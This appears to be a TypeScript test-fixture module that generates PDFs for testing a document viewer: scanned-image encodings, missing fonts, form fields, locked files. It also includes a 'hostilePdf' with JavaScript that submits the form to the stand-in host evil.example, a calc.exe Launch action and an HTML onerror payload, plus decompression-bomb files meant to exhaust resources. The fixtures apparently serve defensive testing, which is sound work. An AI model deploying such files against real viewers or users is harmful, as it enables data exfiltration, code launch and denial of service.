import { buffer } from "node:stream/consumers";
import { deflateSync } from "node:zlib";
import PDFDocument from "pdfkit";
import { assemblePdf, streamObject as stream } from "@/scripts/demo/files";
import { fileOf } from "./files";

const pdf = (objects: string[], name: string) =>
  fileOf(assemblePdf(objects), name, "application/pdf");

const HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/** A PDF with that many pages, each showing its number in Helvetica. */
export function pagesPdf(count: number): File {
  const pages = Array.from({ length: count }, (_, index) => ({
    number: index + 1,
    at: 4 + 2 * index,
  }));
  return pdf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      `<< /Type /Pages /Count ${count} /Kids [${pages.map(({ at }) => `${at} 0 R`).join(" ")}] >>`,
      HELVETICA,
      ...pages.flatMap(({ number, at }) => [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${at + 1} 0 R /Resources << /Font << /F 3 0 R >> >> >>`,
        stream(`BT /F 90 Tf 56 700 Td (Hoja ${number}) Tj ET`),
      ]),
    ],
    "extenso.pdf",
  );
}

/** A page that consists of one image, as scanners make them. */
const scanPdf = (image: Buffer, entries: string, size = 32) =>
  pdf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>",
      stream("q 300 0 0 300 0 0 cm /I Do Q"),
      stream(
        image.toString("latin1"),
        `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} ${entries}`,
      ),
    ],
    "escaneado.pdf",
  );

/** A black square of 32 × 32 pixels as JPEG 2000, made with OpenJPEG. */
const JPEG_2000 = Buffer.from(
  "/0//UQApAAAAAAAgAAAAIAAAAAAAAAAAAAAAIAAAACAAAAAAAAAAAAABDwEB/1IADAAAAAEABQQEAAH/XAATQICIiJCIiJCIiJCIiJCIiJD/ZAAlAAFDcmVhdGVkIGJ5IE9wZW5KUEVHIHZlcnNpb24gMi41LjD/kAAKAAAAAAAYAAH/k9/4kAgHgICAgID/2Q==",
  "base64",
);
/** The same square as a group 4 fax. */
const FAX = Buffer.from("26a0d5fffffffffffffff8008008", "hex");
const FAX_ENTRIES =
  "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 32 /Rows 32 >>";
const jpxPdf = (image: Buffer) => scanPdf(image, "/Filter /JPXDecode");

/** The same in JBIG2: one segment with the page's size, one with all of its pixels (ITU-T T.88, 7.4). */
const JBIG2 = Buffer.concat([
  Buffer.from(
    "00000000 30 00 01 00000013 00000020 00000020 00000000 00000000 00 0000".replaceAll(" ", ""),
    "hex",
  ),
  Buffer.from(
    "00000001 26 00 01 00000020 00000020 00000020 00000000 00000000 00 01".replaceAll(" ", ""),
    "hex",
  ),
  FAX,
]);
const JBIG2_ENTRIES = "/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode";

/** Pages as scanners compress them; no browser can decode these by itself. */
export const scans = {
  "JPEG 2000": () => jpxPdf(JPEG_2000),
  JBIG2: () => scanPdf(JBIG2, JBIG2_ENTRIES),
  fax: () => scanPdf(FAX, FAX_ENTRIES),
};

/** A page whose only image is broken. */
export const brokenScan = () => jpxPdf(JPEG_2000.subarray(0, 100));

type Sheet = { text?: string; font?: string; field?: string };

/** A page for each, with a text in a font, or a form field. Fields may use the form's font F, Helvetica. */
function sheets(pages: Sheet[], form = "") {
  const placed = pages.map((page, index) => ({ ...page, at: 4 + 4 * index }));
  const kids = placed.map(({ at }) => `${at} 0 R`).join(" ");
  const fields = placed.flatMap(({ at, field }) => (field ? [`${at + 3} 0 R`] : [])).join(" ");
  return pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${fields}] /DR << /Font << /F 3 0 R >> >> ${form} >> >>`,
      `<< /Type /Pages /Count ${pages.length} /Kids [${kids}] >>`,
      HELVETICA,
      ...placed.flatMap(({ at, text = "", font = HELVETICA, field }) => [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents ${at + 1} 0 R /Resources << /Font << /F ${at + 2} 0 R >> >> /Annots [${field ? `${at + 3} 0 R` : ""}] >>`,
        stream(text && `BT /F 40 Tf 20 100 Td (${text}) Tj ET`),
        font,
        `<< /Type /Annot /Subtype /Widget /T (f${at}) /Rect [20 20 280 80] /F 4 ${field} >>`,
      ]),
    ],
    "informe.pdf",
  );
}

/** Pages with ink only if the viewer has what the PDF does not contain, or draws what it only names. */
export const incompletePdf = () =>
  sheets([
    {
      // A Japanese encoding.
      text: "Hola",
      font: "<< /Type /Font /Subtype /Type0 /BaseFont /MS-Gothic /Encoding /90ms-RKSJ-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /MS-Gothic /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /MS-Gothic /Flags 4 >> >>] >>",
    },
    { text: "4", font: "<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>" },
    { field: "/FT /Tx /V (Hola) /DA (/F 20 Tf 0 g)" },
    { field: "/FT /Ch /V (Hola) /Opt [(Hola)] /DA (/F 20 Tf 0 g)" },
    // A tick.
    { field: "/FT /Btn /V /Yes /AS /Yes" },
  ]);

/** Of an XFA form a PDF contains one page for programs that cannot show it. */
export const xfaPdf = () => sheets([{ text: "Please wait..." }], "/XFA [(template) (<template/>)]");

/**
 * Everything that a PDF can do when it opens or is clicked: scripts, programs, addresses, forms. Its second
 * page is 2 points wide and 14,400 high.
 */
export const hostilePdf = () => {
  const away = "/URI (https://evil.example/)";
  const link = (action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>`;
  return pdf(
    [
      "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >> >>",
      "<< /Type /Pages /Count 2 /Kids [3 0 R 4 0 R] >>",
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F 6 0 R >> >> /Annots [${link(`/S /URI ${away}`)} ${link("/S /JavaScript /JS (app.alert\\(2\\))")} << /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842] /A << /S /SubmitForm /F ${away.slice(5)} >> >>] /AA << /O << /S /URI ${away} >> >> >>`,
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2 14400] /Contents 5 0 R /Resources << /Font << /F 6 0 R >> >> >>",
      stream("BT /F 40 Tf 56 700 Td (<img src=x onerror=alert\\(3\\)>) Tj ET"),
      HELVETICA,
    ],
    "hostil.pdf",
  );
};

const packed = (content: string | Buffer, times = 1) =>
  Array.from({ length: times }).reduce<Buffer>(
    (one) => deflateSync(one, { level: 9 }),
    Buffer.from(content),
  );
const onePage = (content: Buffer, filters = 1) =>
  pdf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
      stream(content.toString("latin1"), `/Filter [${"/FlateDecode ".repeat(filters)}]`),
    ],
    "hostil.pdf",
  );

/** Two thousand lines, each with half a million dashes. */
export const dashedPdf = () =>
  onePage(packed(`[0.001 0.001] 0 d 0.01 w\n${"0 0 m 595 842 l S\n".repeat(2_000)}`));

/** A page of two million letters. */
export const endlessTextPdf = () => sheets([{ text: `${"a".repeat(10_000)}) Tj (`.repeat(200) }]);

/** Files of a few kilobytes that cost a viewer minutes or gigabytes. */
export const exhausting = {
  "a PDF of one path without end": () =>
    onePage(packed(`0 0 m\n${"0 0 595 842 0 842 c\n".repeat(2_000_000)}f`)),
  "a PDF of one image, too large to be read": () =>
    scanPdf(
      deflateSync(Buffer.alloc(10_000 * 10_000)),
      "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
      10_000,
    ),
  "a PDF of operators without end": () => onePage(packed(Buffer.alloc(160_000_000, "q Q\n"), 2), 2),
};

/** A PDF that asks for that password to read it, or, with `ownerPassword`, only to change it. */
export async function lockedPdf(options: { userPassword?: string; ownerPassword?: string }) {
  const document = new PDFDocument(options);
  document.fontSize(40).text("Hemograma normal.").end();
  return fileOf(await buffer(document), "resultado.pdf", "application/pdf");
}
